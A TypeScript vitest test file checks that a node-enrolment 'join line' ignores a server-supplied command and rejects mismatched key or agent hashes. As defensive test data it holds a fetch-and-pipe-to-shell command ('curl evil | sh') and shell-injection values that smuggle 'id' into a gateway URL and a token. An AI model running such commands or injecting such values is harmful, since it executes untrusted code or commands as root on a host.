// The line that runs as root on a new node: whatever the console answers, it names the keys and the agent of this host, and nothing of it reaches a shell.
import { expect, test } from "vitest";
import type { NewJoinToken } from "../server/agents/schema.ts";
import { formatToken } from "../server/agents/token.ts";
import { joinLine } from "./join-line.ts";

const pins = { ca: "a".repeat(64), key: "b".repeat(64), agentSha256: "c".repeat(64) };
const answer = (edit: Partial<NewJoinToken> = {}, keys: Partial<typeof pins> = {}): NewJoinToken => ({
  id: "1",
  token: formatToken({ id: "1", secret: "s", ca: keys.ca ?? pins.ca, key: keys.key ?? pins.key }),
  gatewayUrl: "https://10.0.0.1:7443",
  caFingerprint: pins.ca,
  keyFingerprint: pins.key,
  agentSha256: pins.agentSha256,
  command: "curl evil | sh",
  expiresAt: new Date(0),
  ...edit,
});

test("it is written here", () => {
  const line = joinLine(answer(), pins);
  expect(line).toContain(pins.agentSha256);
  expect(line).toContain(answer().token);
  expect(line).not.toContain("evil");
});

test.each([
  { name: "another CA", made: answer({}, { ca: "d".repeat(64) }) },
  { name: "another signing key", made: answer({}, { key: "d".repeat(64) }) },
  { name: "another agent", made: answer({ agentSha256: "d".repeat(64) }) },
  { name: "no checksum", made: answer({ agentSha256: null }) },
  { name: "an address that a shell would act on", made: answer({ gatewayUrl: "https://x'; id; '" }) },
  { name: "a token that a shell would act on", made: answer({ token: `${answer().token}'; id; '` }) },
])("$name is refused", ({ made }) => {
  expect(() => joinLine(made, pins)).toThrow("cannot be trusted");
});
